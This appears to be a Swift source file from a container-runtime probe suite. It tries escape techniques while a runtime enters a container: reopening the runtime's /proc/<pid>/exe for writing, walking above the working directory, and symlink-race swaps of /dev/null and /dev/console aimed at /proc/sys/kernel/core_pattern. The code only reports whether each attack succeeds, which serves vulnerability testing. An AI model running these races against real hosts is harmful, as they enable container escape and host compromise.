import CAttack
import Glibc

extension Attack {
    /// What a runtime may do wrong while it enters a container. Somebody outside enters it meanwhile, again and again.
    static let runtime = [
        Attack("runtime-program", [Attempt("overwrite") { overwriteRuntime() }]),
        Attack("working-directory", [Attempt("above-the-root") { aboveTheRoot() }]),
        Attack(
            "device-races",
            [Attempt("null") { swapping("/dev/null") }, Attempt("console") { swapping("/dev/console") }]),
        Attack("shared-inode", [Attempt("identity") { inodes() }]),
    ]

    /// Watches for processes that still are their runtime, keeps their program's file, and writes to it once it rests.
    private static func overwriteRuntime() -> Said {
        let deadline = Pace.deadline
        let own = identity("/proc/self/exe")
        var refusals: [String: Int] = [:]
        var held: [Int32] = []
        while attack_now() < deadline {
            for process in processNumbers() where process != getpid() && process != getppid() {
                let path = "/proc/\(process)/exe"
                guard let found = identity(path), found.inode != own?.inode || found.device != own?.device else {
                    continue
                }
                let file = opened(path, O_RDONLY)
                guard file >= 0 else {
                    refusals[Said(file).word, default: 0] += 1
                    continue
                }
                if held.count < 8 { held.append(Int32(file)) } else { close(Int32(file)) }
            }
            for file in held {
                let writable = opened("/proc/self/fd/\(file)", O_WRONLY)
                guard writable < 0 else { return .succeeded("the runtime's program can be written") }
                refusals[Said(writable).word, default: 0] += 1
            }
        }
        let seen = refusals.sorted { $0.key < $1.key }.map { "\($0.key) \($0.value)" }.joined(separator: ", ")
        let word = refusals.keys.filter { $0 != "ETXTBSY" && $0 != "ENOENT" }.sorted().first
        return Said(word ?? refusals.keys.sorted().first ?? "unseen", seen)
    }

    private static func processNumbers() -> [Int32] {
        guard let directory = opendir("/proc") else { return [] }
        defer { closedir(directory) }
        var found: [Int32] = []
        while found.count < 4096, let entry = readdir(directory) {
            let name = withUnsafeBytes(of: entry.pointee.d_name) { bytes in
                String(decoding: bytes.prefix { $0 != 0 }, as: UTF8.self)
            }
            if let number = Int32(name) { found.append(number) }
        }
        return found
    }

    /// Climbs from the working directory: inside, it ends at the container's own root.
    private static func aboveTheRoot() -> Said {
        let up = String(repeating: "../", count: 32)
        guard let top = identity(up), let root = identity("/") else { return Said(-Int64(errno)) }
        guard top.inode == root.inode, top.device == root.device else {
            return .succeeded("above the working directory is another root")
        }
        return Said("inside", "the working directory lies in the container's root")
    }

    /// Swaps a device for a link to a file of the kernel while somebody enters: a runtime that binds the device over what
    /// it masks would show that file there instead, to be written.
    private static func swapping(_ device: String) -> Said {
        let target = "/proc/sys/kernel/core_pattern"
        let masked = "/proc/keys"
        let aside = device + ".aside"
        let link = device + ".link"
        unlink(link)
        guard symlink(target, link) == 0 else { return Said(-Int64(errno), "symlink") }
        let had = identity(device) != nil
        if !had { close(Int32(max(0, opened(device, O_WRONLY | O_CREAT)))) }
        let deadline = Pace.deadline
        // What an earlier attempt led to has to be gone before this one can be told from it.
        while isSame(masked, target), attack_now() < deadline { attack_sleep_until(attack_now() + 10_000) }
        let first = nextProcess()
        var swaps = 0
        var isReached = false
        while attack_now() < deadline, !isReached {
            rename(device, aside)
            rename(link, device)
            isReached = isSame(masked, target)
            rename(device, link)
            rename(aside, device)
            swaps += 1
        }
        unlink(link)
        if !had { unlink(device) }
        // Whoever came in took numbers of processes.
        let detail = "\(swaps) swaps, \(max(0, nextProcess() - first - 1)) entered"
        guard isReached else { return Said("unchanged", detail) }
        return .succeeded("'\(masked)' has become '\(target)'; \(detail)")
    }

    private static func isSame(_ path: String, _ other: String) -> Bool {
        guard let one = identity(path), let two = identity(other) else { return false }
        return one.inode == two.inode && one.device == two.device
    }

    /// The number that a process gets now.
    private static func nextProcess() -> Int32 {
        let child = attack_fork()
        if child == 0 { attack_exit(0) }
        var status: Int32 = 0
        var signal: Int32 = 0
        _ = attack_wait(child, 1, &status, &signal)
        return child
    }

    /// Where the program's bytes come from; two workloads of one image are compared by whoever asks both.
    private static func inodes() -> Said {
        let line = (contents("/proc/self/maps") ?? "").split(separator: "\n").first { $0.hasSuffix("/apus-attack") }
        let fields = line?.split(separator: " ") ?? []
        return Said("identity", fields.count > 4 ? "\(fields[3]) \(fields[4])" : "unknown")
    }
}
